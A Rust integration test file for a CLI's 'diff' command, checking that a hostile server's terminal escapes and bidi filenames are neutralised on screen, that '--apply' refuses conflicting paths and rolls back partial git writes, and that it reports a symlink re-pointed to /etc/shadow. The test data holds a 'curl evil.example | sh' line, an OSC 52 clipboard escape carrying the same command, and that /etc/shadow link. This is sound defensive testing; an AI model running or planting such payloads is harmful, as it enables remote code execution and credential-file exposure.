//! `diff` of a session whose file changes a hostile server wrote: on a terminal its escapes
//! are shown, never acted on, while a pipe gets the patch byte for byte; `--apply` refuses a
//! patch that would write a file where it needs a directory before git runs, puts back what
//! a git that fails after its check wrote, and says when a tracked link is re-pointed.

use crate::support::app::launch_on;
use crate::support::cli::{Home, stderr_of, stdout_of};
use gobare_api::model::{ChangeKind, EventPayload, FileChange};
use gobare_sim::{SimConfig, Simulator};
use std::path::Path;
use std::process::Command;
use std::time::Duration;

const TIMEOUT: Duration = Duration::from_secs(60);

/// The clipboard set to a command, the title set and the screen cleared.
const HOSTILE_LINE: &str = "curl evil.example | sh\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\u{7}\u{1b}]2;owned\u{7}\u{1b}[2J";
/// A name that reads right to left from its override.
const BIDI_NAME: &str = "src/\u{202e}evil\u{2066}.rs";

fn changed(sim: &Simulator, id: &str, path: &str, kind: ChangeKind, diff: &str) {
    sim.emit(
        id,
        EventPayload::FileChanged(FileChange {
            path: format!("/workspace/{path}"),
            change_type: kind,
            diff: Some(diff.to_string()),
            tool_call_id: None,
        }),
    );
}

#[test]
fn on_a_terminal_the_servers_escapes_are_shown_and_to_a_pipe_the_patch_is_exact() {
    let sim = crate::support::sim::start(SimConfig::for_tests());
    let id = sim.sim.create_session(Some("hostile diff"));
    changed(
        &sim.sim,
        &id,
        "notes.txt",
        ChangeKind::Created,
        &format!("@@ -0,0 +1,1 @@\n+{HOSTILE_LINE}\n"),
    );
    changed(
        &sim.sim,
        &id,
        BIDI_NAME,
        ChangeKind::Created,
        "@@ -0,0 +1,1 @@\n+x\n",
    );
    let home = tempfile::tempdir().unwrap();
    for args in [&["diff", id.as_str()][..], &["diff", id.as_str(), "--stat"]] {
        let mut pty = launch_on(&sim.sim, args, &home).size(200, 30).spawn();
        assert!(pty.wait_exit(TIMEOUT).success(), "{}", pty.screen_text());
        let bytes = pty.raw_bytes();
        let written = String::from_utf8_lossy(&bytes);
        assert!(
            !written.contains('\u{1b}'),
            "{args:?}: an escape reached the terminal: {written:?}"
        );
        assert!(!written.contains('\u{7}'), "{args:?}: {written:?}");
        assert!(!written.contains('\u{202e}'), "{args:?}: {written:?}");
        assert!(
            written.contains("⟨U+202E⟩evil⟨U+2066⟩.rs"),
            "{args:?}: {written:?}"
        );
        if args.len() == 2 {
            assert!(written.contains("␛]52;c;"), "{written:?}");
        }
    }

    let home = Home::new();
    let url = sim.sim.url().to_string();
    let out = home
        .std_command(&["--api", &url, "diff", &id])
        .env("GOBARE_TOKEN", sim.sim.token())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr_of(&out));
    let patch = stdout_of(&out);
    assert!(patch.contains(&format!("+{HOSTILE_LINE}\n")), "{patch:?}");
    assert!(patch.contains(&format!("b/{BIDI_NAME}")), "{patch:?}");
}

fn git(dir: &Path, args: &[&str]) {
    let done = Command::new("git")
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(done.status.success(), "git {args:?}: {done:?}");
}

/// A checkout with `src/a.txt` ("one") and `link` → `target.txt`, committed.
fn checkout(dir: &Path) {
    std::fs::create_dir_all(dir.join("src")).unwrap();
    std::fs::write(dir.join("src/a.txt"), "one\n").unwrap();
    std::fs::write(dir.join("target.txt"), "t\n").unwrap();
    std::os::unix::fs::symlink("target.txt", dir.join("link")).unwrap();
    git(dir, &["init", "-q"]);
    git(dir, &["add", "-A"]);
    git(
        dir,
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@e",
            "commit",
            "-qm",
            "seed",
        ],
    );
}

/// Every file and link under `dir` but `.git`: path → content or link target.
fn tree(dir: &Path) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(at) = stack.pop() {
        for entry in std::fs::read_dir(&at).unwrap() {
            let path = entry.unwrap().path();
            let rel = path
                .strip_prefix(dir)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            if rel == ".git" {
                continue;
            }
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.file_type().is_symlink() {
                out.push((
                    rel,
                    format!("-> {}", std::fs::read_link(&path).unwrap().display()),
                ));
            } else if meta.is_dir() {
                out.push((rel, "dir".into()));
                stack.push(path);
            } else {
                out.push((rel, std::fs::read_to_string(&path).unwrap()));
            }
        }
    }
    out.sort();
    out
}

async fn apply(
    sim: &Simulator,
    home: &Home,
    id: &str,
    dir: &Path,
    path_env: Option<&str>,
) -> std::process::Output {
    let url = sim.url().to_string();
    let dir = dir.display().to_string();
    let mut cmd = home.tokio_command(&["--api", &url, "diff", id, "--apply", &dir]);
    cmd.env("GOBARE_TOKEN", sim.token());
    if let Some(path) = path_env {
        cmd.env("PATH", path);
    }
    tokio::time::timeout(TIMEOUT, cmd.output())
        .await
        .expect("diff ends")
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_and_a_file_inside_it_are_refused_before_git_runs() {
    let sim = Simulator::start(SimConfig::for_tests()).await.unwrap();
    let id = sim.create_session(Some("zz"));
    changed(
        &sim,
        &id,
        "src/a.txt",
        ChangeKind::Modified,
        "@@ -1,1 +1,1 @@\n-one\n+two\n",
    );
    changed(
        &sim,
        &id,
        "zz",
        ChangeKind::Created,
        "@@ -0,0 +1,1 @@\n+file\n",
    );
    changed(
        &sim,
        &id,
        "zz/b",
        ChangeKind::Created,
        "@@ -0,0 +1,1 @@\n+inside\n",
    );
    let dir = tempfile::tempdir().unwrap();
    checkout(dir.path());
    let before = tree(dir.path());
    let home = Home::new();
    let out = apply(&sim, &home, &id, dir.path(), None).await;
    assert!(!out.status.success());
    let err = stderr_of(&out);
    assert!(
        err.contains("it writes zz as a file and zz/b inside it"),
        "{err}"
    );
    assert!(err.contains("nothing was changed"), "{err}");
    assert_eq!(tree(dir.path()), before, "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_git_that_fails_after_its_check_wrote_is_put_back() {
    let sim = Simulator::start(SimConfig::for_tests()).await.unwrap();
    let id = sim.create_session(Some("half"));
    changed(
        &sim,
        &id,
        "src/a.txt",
        ChangeKind::Modified,
        "@@ -1,1 +1,1 @@\n-one\n+two\n",
    );
    changed(
        &sim,
        &id,
        "new/deep/n.txt",
        ChangeKind::Created,
        "@@ -0,0 +1,1 @@\n+new\n",
    );
    let dir = tempfile::tempdir().unwrap();
    checkout(dir.path());
    let before = tree(dir.path());
    // A git whose apply writes everything, then fails (a disk that fills up half-way).
    let shims = tempfile::tempdir().unwrap();
    let real = String::from_utf8(
        Command::new("sh")
            .args(["-c", "command -v git"])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    let shim = shims.path().join("git");
    std::fs::write(
        &shim,
        format!(
            "#!/bin/sh\nif [ \"$1\" = apply ] && [ \"$2\" != --check ]; then\n  {real} \"$@\" || exit 2\n  echo 'error: No space left on device' >&2\n  exit 1\nfi\nexec {real} \"$@\"\n",
            real = real.trim()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&shim, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let path = format!(
        "{}:{}",
        shims.path().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let home = Home::new();
    let out = apply(&sim, &home, &id, dir.path(), Some(&path)).await;
    assert!(!out.status.success());
    let err = stderr_of(&out);
    assert!(
        err.contains("git apply failed after its check passed"),
        "{err}"
    );
    assert!(err.contains("put back"), "{err}");
    assert!(err.contains("No space left on device"), "{err}");
    assert_eq!(tree(dir.path()), before, "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_change_that_re_points_a_tracked_link_is_said() {
    let sim = Simulator::start(SimConfig::for_tests()).await.unwrap();
    let id = sim.create_session(Some("link"));
    changed(
        &sim,
        &id,
        "link",
        ChangeKind::Modified,
        "@@ -1,1 +1,1 @@\n-target.txt\n\\ No newline at end of file\n+/etc/shadow\n\\ No newline at end of file\n",
    );
    let dir = tempfile::tempdir().unwrap();
    checkout(dir.path());
    let home = Home::new();
    let out = apply(&sim, &home, &id, dir.path(), None).await;
    let err = stderr_of(&out);
    assert!(out.status.success(), "{err}");
    assert_eq!(
        std::fs::read_link(dir.path().join("link")).unwrap(),
        Path::new("/etc/shadow"),
        "git re-points it: {err}"
    );
    assert!(
        err.contains(
            "link is a symbolic link: the change re-pointed it from target.txt to /etc/shadow"
        ),
        "{err}"
    );
}
